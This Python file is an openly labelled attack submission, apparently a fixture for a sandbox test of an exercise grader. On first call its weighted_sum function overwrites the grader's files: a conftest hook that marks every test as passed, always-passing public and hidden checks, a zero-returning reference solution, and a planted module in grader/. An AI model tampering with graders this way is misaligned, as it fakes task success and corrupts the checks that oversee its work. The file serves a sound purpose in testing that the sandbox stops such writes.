"""Attack: rewrite the grader's own folders, found beside the grader package:
a checks/conftest.py that would pass every check, the public and hidden
checks of this exercise replaced by checks that always pass, a reference
solution that agrees with this file's zeros, a new module and a line of code
in grader/. Then zeros as answers.

The writes happen at the first call, once the checks are collected and this
exercise's reference is loaded, so the score of this grading is 0 in either
mode (at import they would race the grader's collection of the checks).
Without the sandbox a process of the grader's user can write these files,
and the next grading would use them (SANDBOX_ONLY in test_attacks.py, which
grades from a copy of the project so that the real one is never touched).
In the sandbox grader/ is read-only and checks/ and solutions/ are not there:
every write fails and the project is unchanged.
"""
import os
import sys

import torch

TAG = "__ATTACK_TAG__"  # test_attacks.py writes a unique tag here
PROJECT = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["grader"].__file__)))
PASS = "import pytest\n\n\n@pytest.mark.points(100)\ndef test_everything(sub, ref):\n    pass\n"
CONFTEST = (
    "import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
    "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n"
)
ZEROS = "import torch\n\n\ndef weighted_sum(scores, values):\n    return torch.zeros(values.shape[:-2] + values.shape[-1:])\n"
WRITES = {
    ("checks", "conftest.py"): CONFTEST,
    ("checks", "public", "test_ex0_weighted_sum.py"): PASS,
    ("checks", "hidden", "test_ex0_weighted_sum.py"): PASS,
    ("solutions", "ex0_weighted_sum.py"): ZEROS,
    ("grader", f"pwned_{TAG}.py"): "PWNED = True\n",
}
APPEND = {("grader", "engine", "plugin.py"): f"\n# {TAG}\n"}
done = []


def _rewrite() -> None:
    for parts, text in list(WRITES.items()) + list(APPEND.items()):
        path = os.path.join(PROJECT, *parts)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a" if parts in APPEND else "w") as f:
                f.write(text)
            done.append(path)
        except OSError:
            pass


def weighted_sum(scores: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    if not done:
        _rewrite()
    return torch.zeros(values.shape[:-2] + values.shape[-1:])  # (..., C), all wrong
